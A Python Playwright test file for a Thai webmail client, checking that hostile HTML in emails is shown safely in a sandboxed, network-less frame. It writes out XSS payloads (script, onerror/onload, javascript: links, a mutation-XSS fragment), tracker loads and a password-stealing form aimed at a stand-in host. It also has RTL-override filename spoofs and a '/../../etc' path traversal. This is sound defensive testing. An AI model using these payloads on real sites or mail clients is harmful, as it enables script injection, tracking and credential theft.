"""A stranger's HTML: shown as it should look, able to do nothing."""

from __future__ import annotations

import json
from email.message import EmailMessage
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, expect

from tests.acceptance.people import TestPerson
from tests.acceptance.reader import Reader
from tests.acceptance.system import System
from tests.browser.client import MailPage
from tests.browser.conftest import Watch
from tests.browser.letters import PICTURE, deliver, letter, unique

ATTACKS = """
<div style="color: rgb(1, 2, 3)"><p id="words">ข้อความที่ต้องอ่านได้</p></div>
<script>parent.postMessage('owned', '*'); document.title = 'owned'</script>
<img src="x" onerror="parent.owned = 1"><img src="https://tracker.outside.test/open.png" alt="ภาพภายนอก">
<svg onload="parent.owned = 1"><image href="https://tracker.outside.test/svg.png"/></svg>
<style>@import url(https://tracker.outside.test/a.css);
p { background: url(https://tracker.outside.test/b.png) }</style>
<div style="background-image: url(https://tracker.outside.test/c.png); position: fixed; inset: 0">x</div>
<iframe src="https://tracker.outside.test/"></iframe><object data="https://tracker.outside.test/o"></object>
<form action="https://tracker.outside.test/steal"><input name="password" autofocus><button>ยืนยัน</button></form>
<meta http-equiv="refresh" content="0;url=https://tracker.outside.test/"><base href="https://tracker.outside.test/">
<link rel="stylesheet" href="https://tracker.outside.test/d.css">
<video src="https://tracker.outside.test/v" autoplay></video>
<a href="javascript:parent.owned=1" id="script-link">กดที่นี่</a>
<a href="https://www.outside.test/" id="good-link">ลิงก์ดี</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.owned=1&gt;">
"""


def frame_of(mail: MailPage) -> FrameLocator:
    return mail.reader.frame_locator("iframe").first


def open_wherever(system: System, person: TestPerson, mail: MailPage, message: EmailMessage) -> None:
    """Deliver a message and open it where the spam filter put it."""
    deliver(system, person.email, message)
    reader = Reader(system, person)
    seen = reader.wait_for(message["Message-ID"].strip("<>"))
    if reader.mailbox_id("junk") in seen.mailbox_ids:
        mail.go("จดหมายขยะ")
    mail.rows.first.click()


def test_hostile_html_reads_well_and_does_nothing(system: System, person: TestPerson, mail: MailPage) -> None:
    subject = unique("จดหมายประสงค์ร้าย")
    mail.page.evaluate("addEventListener('message', () => { window.owned = 1 })")
    open_wherever(system, person, mail, letter(subject, html=ATTACKS))
    frame = frame_of(mail)
    expect(frame.get_by_text("ข้อความที่ต้องอ่านได้")).to_be_visible()
    expect(
        frame.locator("script, iframe, form, input, object, link, video, svg, meta[http-equiv=refresh]")
    ).to_have_count(1)
    frame.locator("#script-link, a:has-text('กดที่นี่')").first.click(force=True)
    expect(mail.page.get_by_text("ซ่อนรูปภาพจากภายนอกไว้")).to_be_visible()
    mail.picture("desktop-hostile")
    assert mail.page.evaluate("window.owned") is None
    assert mail.page.title() != "owned"


def test_the_frame_has_no_origin_and_no_network(
    system: System, person: TestPerson, mail: MailPage, watch: Watch
) -> None:
    subject = unique("กรอบของจดหมาย")
    deliver(system, person.email, letter(subject, html="<p>สวัสดี</p>"))
    mail.open_row(subject)
    expect(frame_of(mail).get_by_text("สวัสดี")).to_be_visible()
    (frame,) = [frame for frame in mail.page.frames if frame.url.endswith("/message-frame.html")]
    assert frame.evaluate("self.origin") == "null"
    assert frame.evaluate("fetch('/jmap/').then(() => 'sent', () => 'refused')") == "refused"
    assert (
        frame.evaluate("(() => { try { return parent.document.title } catch { return 'refused' } })()")
        == "refused"
    )
    assert (
        frame.evaluate("(() => { try { return localStorage.length } catch { return 'refused' } })()")
        == "refused"
    )
    assert all("/jmap/" in fault for fault in watch.faults)
    watch.faults.clear()


def test_pictures_of_the_message_itself_are_shown(system: System, person: TestPerson, mail: MailPage) -> None:
    subject = unique("ตราของหน่วยงาน")
    message = letter(subject, html='<p>ตรา: <img src="cid:seal@x" alt="ตราครุฑ" width="40" height="40"></p>')
    html = message.get_body(("html",))
    assert isinstance(html, EmailMessage)
    html.add_related(PICTURE, "image", "png", cid="<seal@x>")
    deliver(system, person.email, message)
    mail.open_row(subject)
    picture = frame_of(mail).get_by_alt_text("ตราครุฑ")
    expect(picture).to_be_visible()
    expect(picture).to_have_js_property("naturalWidth", 1)


def test_the_frame_is_as_tall_as_the_message(system: System, person: TestPerson, mail: MailPage) -> None:
    subject = unique("จดหมายยาว")
    deliver(
        system,
        person.email,
        letter(subject, html="".join(f"<p>บรรทัดที่ {number}</p>" for number in range(200))),
    )
    mail.open_row(subject)
    last = frame_of(mail).get_by_text("บรรทัดที่ 199")
    last.scroll_into_view_if_needed()
    expect(last).to_be_in_viewport()


def test_names_cannot_dress_up(system: System, person: TestPerson, mail: MailPage) -> None:
    message = letter(unique("ใบแจ้งหนี้\u202egnp.exe"), "ดูไฟล์แนบ")
    message.replace_header("From", "\u200bนายกรัฐมนตรี\u202e <wipa@outside.test>")
    message.add_attachment(
        b"MZ", maintype="application", subtype="octet-stream", filename="ใบแจ้ง\u202efdp.exe"
    )
    open_wherever(system, person, mail, message)
    expect(mail.reader.get_by_role("button", name="นายกรัฐมนตรี <wipa@outside.test>")).to_be_visible()
    expect(mail.reader.get_by_role("link", name="ดาวน์โหลด ใบแจ้งfdp.exe")).to_be_visible()
    assert "\u202e" not in mail.page.locator("body").inner_text()


def test_a_download_has_its_thai_name_and_bytes(
    system: System, person: TestPerson, mail: MailPage, tmp_path: Path
) -> None:
    subject, name = unique("ไฟล์แนบ"), "หนังสือ ที่ นร ๐๑๐๗.pdf"
    message = letter(subject)
    message.add_attachment(b"%PDF-1.4 bytes", maintype="application", subtype="pdf", filename=name)
    deliver(system, person.email, message)
    mail.open_row(subject)
    with mail.page.expect_download() as download:
        mail.reader.get_by_role("link", name=f"ดาวน์โหลด {name}").click()
    assert download.value.suggested_filename == name
    download.value.save_as(tmp_path / "file")
    assert (tmp_path / "file").read_bytes() == b"%PDF-1.4 bytes"


@pytest.mark.parametrize(
    "path", ["/mail/inbox/t0000000000000", "/mail/%E0%", "/search/%00", "/mail/nobody", "/../../etc"]
)
def test_odd_addresses_show_a_page(mail: MailPage, path: str) -> None:
    origin = mail.page.url.split("/mail")[0]
    mail.page.goto(origin + path)
    expect(mail.page.get_by_role("heading", level=1)).to_be_visible()


def test_known_attacks_run_nothing_and_ask_nobody(
    person: TestPerson, system: System, mail: MailPage, corpus: Path
) -> None:
    """Fragments collected against sanitisers, put past the scanners straight into the mailbox."""
    entries = json.loads((corpus / "html" / "xss-payloads.json").read_text("utf-8"))
    payloads = [str(entry["payload"]) for entry in entries]
    reader = Reader(system, person)
    inbox = reader.mailbox_id("inbox")
    mail.page.evaluate("void (window.alert = window.confirm = window.prompt = () => { window.owned = 1 })")
    for start in range(0, len(payloads), 25):
        html = "<hr>".join(payloads[start : start + 25])
        subject = f"ชุดที่ {start}"
        email = {
            "mailboxIds": {inbox: True},
            "from": [{"name": None, "email": "attacker@outside.test"}],
            "subject": subject,
            "htmlBody": [{"partId": "h", "type": "text/html"}],
            "bodyValues": {"h": {"value": f"<p>ต้น</p>{html}"}},
        }
        answer = reader.call("Email/set", create={"attack": email})
        assert answer["notCreated"] in (None, {}), answer
        mail.open_row(subject)
        expect(frame_of(mail).get_by_text("ต้น", exact=True)).to_be_visible()
        assert mail.page.evaluate("window.owned") is None
        for frame in mail.page.frames[1:]:
            assert frame.evaluate(
                "typeof owned + document.querySelectorAll('iframe iframe, object, embed, form').length"
            ) == ("undefined0")
